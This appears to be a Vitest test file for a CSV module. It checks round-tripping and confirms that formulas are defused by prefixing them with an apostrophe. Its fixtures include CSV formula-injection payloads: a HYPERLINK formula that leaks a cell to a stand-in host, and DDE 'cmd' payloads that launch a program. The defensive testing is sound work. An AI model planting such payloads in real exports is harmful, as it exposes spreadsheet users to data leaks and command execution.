import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parseCsv, toCsv } from '../../../shared/csv';

describe('CSV', () => {
  it('reads back exactly what it writes, whatever the cells hold', () => {
    const cell = fc
      .string({ unit: fc.constantFrom('a', ',', '"', '\n', '\r\n', ' ', 'é', '🎯', '1') })
      .filter((text) => !/^[=+\-@\t\r]/.test(text));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }), (rows) => {
        expect(parseCsv(toCsv(rows))).toEqual(rows);
      }),
    );
  });

  it('defuses text a spreadsheet would run as a formula, but not negative numbers', () => {
    expect(toCsv([['=HYPERLINK("x")', '@SUM(A1)', '-0.15', '+44 20']])).toBe(
      '"\'=HYPERLINK(""x"")",\'@SUM(A1),-0.15,+44 20\r\n',
    );
  });

  // Excel, LibreOffice and Google Sheets run each of these as a formula: a sign and a digit do not make a number.
  it.each([
    '-1+HYPERLINK("https://evil.example/?leak="&B2,"Open the plan")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
  ])('defuses %s, which starts like a signed number', (formula) => {
    expect(parseCsv(toCsv([[formula]]))).toEqual([[`'${formula}`]]);
  });
});
